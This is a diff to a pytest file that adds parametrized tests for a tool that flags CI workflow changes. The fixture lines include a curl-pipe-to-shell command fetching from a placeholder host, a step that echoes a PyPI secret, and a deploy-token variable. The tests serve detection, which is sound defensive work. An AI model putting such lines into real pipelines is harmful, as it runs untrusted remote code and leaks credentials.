@@ -106,3 +106,29 @@ def test_a_package_that_moves_is_no_question(tmp_path) -> None:
     moved = new_source(tmp_path, {"pkg/__init__.py": "def f(x):\n    return x + 1\n"}, PACKAGE)
     (tmp_path / "work/src/pkg/__init__.py").unlink()
     assert list(shadows(moved)) == []
+
+
+WORKFLOW = "on: push\njobs:\n  test:\n    steps:\n      - run: make test\n"
+
+
+@pytest.mark.parametrize(
+    ("name", "line", "is_asked"),
+    [
+        pytest.param(
+            ".github/workflows/ci.yml", "- run: curl https://a.example/x | sh", True, id="another host"
+        ),
+        pytest.param(
+            ".github/workflows/new.yml", "- run: echo ${{ secrets.PYPI }}", True, id="a secret, a new file"
+        ),
+        pytest.param(".gitlab-ci.yml", "variables: {A: $DEPLOY_TOKEN}", True, id="a token"),
+        pytest.param(".github/workflows/ci.yml", "- run: make lint", False, id="another step"),
+        pytest.param(".github/workflows/ci.yml", "# See https://a.example", False, id="a comment"),
+        pytest.param(
+            "docs/deploy.yml", "- run: curl https://a.example/x | sh", False, id="a file of no service"
+        ),
+    ],
+)
+def test_a_change_of_ci_that_reaches_beyond_its_job(tmp_path, name: str, line: str, is_asked: bool) -> None:
+    base = {**BASE, ".github/workflows/ci.yml": WORKFLOW}
+    found = questions(tmp_path, {name: f"{WORKFLOW}      {line}\n"}, base)
+    assert [line[:80] in each.text for each in found] == [True] * is_asked
